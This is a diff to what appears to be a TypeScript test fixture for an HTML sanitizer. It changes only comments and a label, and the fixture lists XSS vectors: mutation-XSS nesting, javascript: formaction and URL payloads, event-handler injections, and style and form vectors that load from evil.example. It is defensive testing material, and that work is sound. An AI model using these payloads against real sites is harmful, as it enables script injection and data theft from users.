@@ -1,13 +1,13 @@
-/** What every vector tries to run. */
+/** The script that every vector tries to run. */
 const attack = 'window.__pwned=1'
 const handled = `onerror=${attack}`
 
 /**
- * Ways to have a page run, load or show what its editor may not, by the way in. Those of the last
- * years first: what a parser reads differently the second time.
+ * Vectors that make a page run, load or show what an editor must not be able to add. The most recent
+ * ones come first: mutation XSS, which a parser reads differently the second time.
  */
-export const hostileHtml: readonly (readonly [way: string, html: string])[] = [
-  // Read twice, read otherwise.
+export const hostileHtml: readonly (readonly [vector: string, html: string])[] = [
+  // Mutation XSS.
   [
     'math and style',
     `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ${handled}&gt;">`,
@@ -169,7 +169,7 @@ export const hostileHtml: readonly (readonly [way: string, html: string])[] = [
   ['formaction', `<form><button formaction="javascript:${attack}">press</button></form>`],
   ['isindex', `<isindex type=image src=1 ${handled} formaction=javascript:${attack}>`],
   ['a button of another form', `<button form=language formaction="//evil.example">press</button>`],
-  // Out of the box, and into ours.
+  // Overlays, DOM clobbering and resources.
   ['style', '<style>main{display:none}*{background:url(//evil.example)}</style>'],
   [
     'a style attribute',
@@ -219,7 +219,7 @@ export const hostileHtml: readonly (readonly [way: string, html: string])[] = [
   ['a cell over everything', '<table><tr><td colspan=1000 rowspan=65534>x</table>'],
 ]
 
-/** Many of them in one text: what is left of one may be what another needs. */
+/** Many vectors in one text: the remains of one may complete another. */
 export const hostileText = [
   `"'><img src=1 ${handled}>`,
   `</script><script>${attack}</script>`,
@@ -230,5 +230,5 @@ export const hostileText = [
   '\u202e\u0000\ud800__proto__',
 ].join(' ')
 
-/** What contact data may hold in place of an address of the web. */
+/** A hostile value for a web address in contact data. */
 export const hostileAddress = `javascript:${attack}//https://tayyar.example/"onmouseover="${attack}`
